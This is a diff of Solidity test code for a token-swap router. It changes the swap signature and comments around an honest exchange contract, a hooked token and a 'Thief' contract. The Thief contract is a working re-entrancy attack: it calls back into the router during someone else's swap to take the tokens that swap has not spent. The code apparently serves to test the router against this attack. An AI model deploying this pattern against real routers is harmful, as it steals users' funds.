@@ -5,7 +5,7 @@ import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
 
 interface IRouter {
     function EXECUTOR() external view returns (address);
-    function swap(address exchange, ERC20 token, uint256 amount, bytes calldata data) external;
+    function swap(address exchange, ERC20 token, uint256 amount, ERC20 bought, bytes calldata data) external;
 }
 
 interface IListener {
@@ -13,13 +13,13 @@ interface IListener {
 }
 
 // #region second
-/// An honest exchange whose shares are a token: target of swaps, and target of allowances.
+/// An honest exchange whose shares are a token, so users may give allowances for them.
 contract Pair is ERC20 {
     constructor(address holder) ERC20("Pair share", "PAIR") {
         _mint(holder, 1000);
     }
 
-    /// Pays one share for each token.
+    /// Pays one share for each token. A real exchange accepts only tokens that it knows.
     function sell(ERC20 token, uint256 amount, address to) external {
         token.transferFrom(msg.sender, address(this), amount);
         _mint(to, amount);
@@ -44,7 +44,7 @@ contract Hooked is ERC20 {
     }
 }
 
-/// Enters the router while somebody else's swap is running, to receive what that swap has left.
+/// Enters the router during somebody else's swap, to get the tokens that the swap has not spent.
 contract Thief {
     IRouter private immutable ROUTER;
     Pair private immutable PAIR;
@@ -58,7 +58,7 @@ contract Thief {
         if (isInside || from != ROUTER.EXECUTOR()) return;
         isInside = true;
         ERC20 token = ERC20(msg.sender);
-        try ROUTER.swap(address(PAIR), token, 0, abi.encodeCall(Pair.sell, (token, 0, address(this)))) {} catch {}
+        try ROUTER.swap(address(PAIR), token, 0, PAIR, abi.encodeCall(Pair.sell, (token, 0, address(this)))) {} catch {}
     }
 }
 // #endregion second
